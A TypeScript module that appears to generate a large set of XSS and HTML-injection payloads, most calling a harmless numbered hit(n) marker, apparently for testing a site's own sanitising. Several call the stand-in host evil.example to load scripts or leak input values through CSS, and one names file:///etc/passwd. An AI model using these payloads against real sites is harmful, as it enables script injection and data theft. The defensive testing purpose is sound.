/** A text that would run `hit(n)`, reach another host or change the page if any page of ours took it for markup. */
export type Payload = string;

type Family = (hit: () => string) => Payload[];

const cross = (ones: readonly string[], others: readonly string[], join: (one: string, other: string) => string) =>
  ones.flatMap((one) => others.map((other) => join(one, other)));

const handlers: Family = (hit) => {
  const tags = ["img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open", "marquee"];
  const more = ["iframe src=x", "object data=x", "embed src=x", "select autofocus", "textarea autofocus", "style"];
  const events = [
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onmouseover",
    "onpointerenter",
    "onanimationstart",
    "onanimationend",
    "onresize",
  ];
  return cross([...tags, ...more, "button autofocus", "a href=# autofocus"], events, (tag, on) => {
    return `<${tag} ${on}="${hit()}">`;
  });
};

const scripts: Family = (hit) => [
  ...["script", "SCRIPT", "ScRiPt", "script ", "script/x", "script\n", "script\t", "script\u0000"].map(
    (tag) => `<${tag}>${hit()}</script>`,
  ),
  ...["text/javascript", "module", "text/ecmascript", "importmap"].map(
    (type) => `<script type="${type}">${hit()}</script>`,
  ),
  `<scr<script>ipt>${hit()}</scr</script>ipt>`,
  `<<script>${hit()}//<</script>`,
  `<script>${hit()}`,
  `</script><script>${hit()}</script>`,
  `<!--><script>${hit()}</script>-->`,
  `<![CDATA[<script>${hit()}</script>]]>`,
  `<script src="data:text/javascript,${hit()}"></script>`,
  `<script src="https://evil.example/a.js"></script>`,
  `<script src=//evil.example/a.js></script>`,
  `<link rel=stylesheet href=https://evil.example/a.css>`,
  `<link rel=prefetch href=https://evil.example/a>`,
  `<meta http-equiv=refresh content="0;url=javascript:${hit()}">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<form action="javascript:${hit()}"><button>ok</button></form>`,
  `<button formaction="javascript:${hit()}">ok</button>`,
  `<iframe srcdoc="<script>parent.${hit()}</script>"></iframe>`,
  `<iframe src="javascript:parent.${hit()}"></iframe>`,
  `<object data="javascript:${hit()}"></object>`,
  `<img src="https://evil.example/pixel.png">`,
];

const svg: Family = (hit) => [
  ...["<svg onload=", "<svg/onload=", "<svg\nonload=", '<svg xmlns="http://www.w3.org/2000/svg" onload='].map(
    (open) => `${open}"${hit()}">`,
  ),
  `<svg><script>${hit()}</script></svg>`,
  `<svg><script xlink:href="data:,${hit()}"></script></svg>`,
  `<svg><a xlink:href="javascript:${hit()}"><text>x</text></a></svg>`,
  `<svg><a href="javascript:${hit()}"><rect width=99 height=99 /></a></svg>`,
  `<svg><animate onbegin="${hit()}" attributeName=x dur=1s>`,
  `<svg><set onbegin="${hit()}" attributeName=x to=1>`,
  `<svg><animate xlink:href=#a attributeName=href values="javascript:${hit()}" /><a id=a><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${hit()}'/>#x" /></svg>`,
  `<svg><use xlink:href="https://evil.example/x.svg#x" /></svg>`,
  `<svg><image href="https://evil.example/x.png" /></svg>`,
  `<svg><foreignObject><img src=x onerror="${hit()}"></foreignObject></svg>`,
  `<svg><style>*{background:url(https://evil.example/s)}</style></svg>`,
  `<svg><discard onbegin="${hit()}">`,
  `<?xml version="1.0"?><svg onload="${hit()}"/>`,
  `<math href="javascript:${hit()}">x</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${hit()}">x</maction></math>`,
];

const mutation: Family = (hit) => {
  const wraps = [
    "noscript",
    "title",
    "textarea",
    "xmp",
    "noembed",
    "noframes",
    "iframe",
    "style",
    "template",
    "option",
  ];
  return [
    ...wraps.map((tag) => `<${tag}><p title="</${tag}><img src=x onerror=${hit()}>">`),
    ...wraps.map((tag) => `<svg></p><${tag}><a id="</${tag}><img src=x onerror=${hit()}>">`),
    ...wraps.map((tag) => `<math><mtext><table><mglyph><${tag}><img src=x onerror=${hit()}>`),
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${hit()}&gt;">`,
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${hit()} src>">`,
    `<table><td><form><table><img src=x onerror=${hit()}>`,
    `<select><template><img src=x onerror=${hit()}></template></select>`,
    `<!--[if gte IE 4]><script>${hit()}</script><![endif]-->`,
    `<plaintext><img src=x onerror=${hit()}>`,
  ];
};

const schemes: Family = (hit) => {
  const written = [
    ...["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "java\rscript:", "\u0001javascript:"],
    ...[" javascript:", "java&#9;script:", "&#106;avascript:", "javascript&colon;", "\u0000javascript:"],
    ...["vbscript:", "data:text/html,<script>", "view-source:javascript:", "feed:javascript:", "jar:javascript:"],
  ];
  const forms = [
    (to: string) => to,
    (to: string) => `<a href="${to}">x</a>`,
    (to: string) => `[x](${to})`,
    (to: string) => `![x](${to})`,
    (to: string) => `[x](<${to}>)`,
    (to: string) => `<${to}>`,
    (to: string) => `https://a.example/ ${to}`,
  ];
  return written.flatMap((scheme) => forms.map((form) => form(`${scheme}${hit()}`)));
};

const addresses: Family = (hit) => [
  `https://user:pw@evil.example/`,
  `https://skylark-wallet.example@evil.example/`,
  `http://evil.example/`,
  `//evil.example/`,
  `https://a.example/"onmouseover="${hit()}`,
  `https://a.example/'onfocus='${hit()}' autofocus='`,
  `https://a.example/><img src=x onerror=${hit()}>`,
  `https://a.example/\u202Eexe.gpj`,
  `https://xn--80ak6aa92e.example/`,
  `mailto:a@b.example?body=<script>${hit()}</script>`,
  `a@b.example"onclick="${hit()}`,
  `tel:+1<img src=x onerror=${hit()}>`,
  `[x]: javascript:${hit()}`,
  `[a]: <javascript:${hit()}>\n[x][a]`,
  `[x](https://a.example "onload=${hit()}")`,
  `![x](https://evil.example/pixel.png)`,
  `\`\`\`html\n<img src=x onerror=${hit()}>\n\`\`\``,
  `file:///etc/passwd`,
  `blob:https://evil.example/1`,
];

const attributes: Family = (hit) =>
  cross(
    [`"`, `'`, "`", `">`, `'>`, `"/>`, `\\"`, `&quot;`],
    ["<img src=x onerror=*>", " onfocus=* autofocus x=", " onmouseover=* ", "<svg onload=*>", ";*;//"],
    (out, then) => `${out}${then.replace("*", hit())}`,
  );

const templates: Family = (hit) => [
  ...[
    "{{*}}",
    "{{constructor.constructor('*')()}}",
    "$" + "{*}",
    "#{*}",
    "<%= * %>",
    "<? * ?>",
    "[[*]]",
    "{% * %}",
  ].map((each) => each.replace("*", hit())),
  ...["{*}", "@{*}", "*{*}", "{!*!}", "((*))", "<$ * $>", "__proto__[*]", "%7B%7B*%7D%7D"].map((each) =>
    each.replaceAll("*", hit()),
  ),
  `<div v-html="'<img src=x onerror=${hit()}>'"></div>`,
  `<div ng-app ng-init="${hit()}"></div>`,
  `<div x-data x-init="${hit()}"></div>`,
  `<div dangerouslySetInnerHTML={{__html:"<img src=x onerror=${hit()}>"}} />`,
  `{"__html":"<img src=x onerror=${hit()}>"}`,
  `{"type":"script","props":{"children":"${hit()}"}}`,
];

const styles: Family = (hit) => [
  `</style><img src=x onerror=${hit()}>`,
  `<style>@import "https://evil.example/a.css";</style>`,
  `<style>@import url(//evil.example/a.css);*{color:red}</style>`,
  `<style>*{background:url(https://evil.example/b)}</style>`,
  `<style>input[value^=1]{background:url(https://evil.example/1)}</style>`,
  `<style>@font-face{font-family:x;src:url(https://evil.example/f)}*{font-family:x}</style>`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${hit()}">`,
  `<div style="background:url(javascript:${hit()})">`,
  `<div style="width:expression(${hit()})">`,
  `<div style="behavior:url(https://evil.example/x.htc)">`,
  `<div style="-moz-binding:url(https://evil.example/x.xml)">`,
  `<div style="position:fixed;inset:0;z-index:99999;background:#fff">`,
  `<div style="background:url(https://evil.example/c)">x</div>`,
  `color:red;background:url(https://evil.example/d)`,
  `;}*{background:url(https://evil.example/e)}`,
  `<b class="main" id="app" slot="x" part="y">`,
  `<p hidden><b onclick=${hit()}>x`,
];

const unicode: Family = (hit) => [
  `\uFF1Cscript\uFF1E${hit()}\uFF1C/script\uFF1E`,
  `\uFE64img src=x onerror=${hit()}\uFE65`,
  `<\u200Bimg src=x onerror=${hit()}>`,
  `<img\u00A0src=x onerror=${hit()}>`,
  `<img\u3000src=x onerror=${hit()}>`,
  `<img\u000Csrc=x\u000Conerror=${hit()}>`,
  `<img src=x on\u0000error=${hit()}>`,
  `\uFEFF<img src=x onerror=${hit()}>`,
  `\u2028<img src=x onerror=${hit()}>\u2029`,
  `\u202Egnp.exe`,
  `\u2066<img src=x onerror=${hit()}>\u2069`,
  `<ſcript>${hit()}</ſcript>`,
  `<ıframe src=javascript:${hit()}>`,
  `<İmg src=x onerror=${hit()}>`,
  `＜svg／onload＝${hit()}＞`,
  `\u{E003C}img src=x onerror=${hit()}\u{E003E}`,
  `Z${"\u0335\u0321\u0322".repeat(60)}`,
  `\u{1F468}\u200D\u{1F469}\u200D\u{1F467}<img src=x onerror=${hit()}>`,
  `“><img src=x onerror=${hit()}>`,
  `\u0008\u0008<img src=x onerror=${hit()}>`,
];

const encoded: Family = (hit) => {
  const plain = ["<img src=x onerror=*>", "<script>*</script>", '"><svg onload=*>', "javascript:*"];
  const ways = [
    (text: string) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
    (text: string) => text.replaceAll("<", "&amp;lt;").replaceAll(">", "&amp;gt;"),
    (text: string) => [...text].map((each) => `&#${each.charCodeAt(0)};`).join(""),
    (text: string) => [...text].map((each) => `&#x${each.charCodeAt(0).toString(16)}`).join(""),
    (text: string) => encodeURIComponent(text),
    (text: string) => encodeURIComponent(encodeURIComponent(text)),
    (text: string) => [...text].map((each) => `\\u${each.charCodeAt(0).toString(16).padStart(4, "0")}`).join(""),
    (text: string) => [...text].map((each) => `\\x${each.charCodeAt(0).toString(16).padStart(2, "0")}`).join(""),
    (text: string) => Buffer.from(text).toString("base64"),
    (text: string) => text.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-"),
  ];
  return plain.flatMap((text) => ways.map((way) => way(text.replace("*", hit()))));
};

const long: Family = (hit) => [
  `${"<b>".repeat(1_200)}<img src=x onerror=${hit()}>`,
  `${"<div><svg>".repeat(300)}<img src=x onerror=${hit()}>`,
  `${"<a href='".repeat(300)}javascript:${hit()}`,
  `${"<!--".repeat(500)}<img src=x onerror=${hit()}>`,
  `${"[".repeat(1_000)}x${"](javascript:".repeat(200)}${hit()}`,
  `${"https://a.example/".repeat(150)}<img src=x onerror=${hit()}>`,
  `${"&amp;".repeat(700)}lt;script>${hit()}`,
  `${"字".repeat(3_900)}<img src=x onerror=${hit()}>`,
  `${"x".repeat(3_900)}<img src=x onerror=${hit()}>`,
  `${"\n".repeat(500)}<img src=x onerror=${hit()}>`,
];

const families: Family[] = [
  ...[handlers, scripts, svg, mutation, schemes, addresses, attributes, templates, styles, unicode, encoded, long],
];

/** Every payload, each with a number of its own to run with. */
export function hostilePayloads(): Payload[] {
  let made = 0;
  const hit = () => `hit(${++made})`;
  return families.flatMap((family) => family(hit));
}

/** One of each so many, from every family. */
export function sampleOf(payloads: readonly Payload[], each: number): Payload[] {
  return payloads.filter((_, at) => at % each === 0);
}
